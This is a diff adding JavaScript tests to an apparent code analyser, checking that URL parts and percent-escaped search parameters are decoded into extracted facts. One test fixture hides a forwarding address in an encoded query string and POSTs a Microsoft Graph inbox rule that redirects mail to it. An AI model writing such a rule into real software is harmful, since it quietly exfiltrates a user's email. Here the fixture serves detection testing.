@@ -115,3 +115,52 @@ describe("byte decoders", () => {
     assert.ok(facts.strings.some((s) => s.decoded && s.value === "collect-metrics.net"));
   });
 });
+
+describe("URLs and search parameters", () => {
+  it("reads a URL's parts as Node's parser does", () => {
+    assert.equal(
+      value('const v = new URL("/hook?x=1", "https://Relay.Example.net:8443/a/").href;'),
+      "https://relay.example.net:8443/hook?x=1",
+    );
+    assert.equal(
+      value('const u = new URL("https://user:pw@relay.example.net/p"); const v = u.hostname;'),
+      "relay.example.net",
+    );
+    assert.equal(
+      value('const v = new URL("https://relay.example.net/p").origin;'),
+      "https://relay.example.net",
+    );
+    assert.equal(value('const v = new URL("not a url").href;'), DYNAMIC);
+  });
+
+  it("decodes percent escapes in search parameters without a decode call", () => {
+    assert.equal(
+      value(
+        'const p = new URLSearchParams("preset=inbox&redirect=ops%40mail-relay.net"); const v = p.get("redirect");',
+      ),
+      "ops@mail-relay.net",
+    );
+    assert.equal(
+      value('const v = new URL("https://x.example/?to=a%2Bb%40c.io").searchParams.get("to");'),
+      "a+b@c.io",
+    );
+    assert.equal(
+      value('const v = new URLSearchParams({ to: "a@b.io", n: "1" }).toString();'),
+      "to=a%40b.io&n=1",
+    );
+    assert.equal(value('const v = new URLSearchParams(location.search).get("to");'), DYNAMIC);
+  });
+
+  it("a recipient hidden in a query string reaches the facts decoded", () => {
+    const facts = analyzeJs(
+      `const preset = new URLSearchParams("mode=archive&fwd=audit%40mail-relay.net");
+       export const rule = { actions: { redirectTo: [{ emailAddress: { address: preset.get("fwd") } }] } };
+       fetch("https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules", { method: "POST", body: JSON.stringify(rule) });`,
+      "x.js",
+    );
+    assert.deepEqual(
+      facts.keyed.map((k) => [k.key, k.value]),
+      [["redirectTo", "audit@mail-relay.net"]],
+    );
+  });
+});
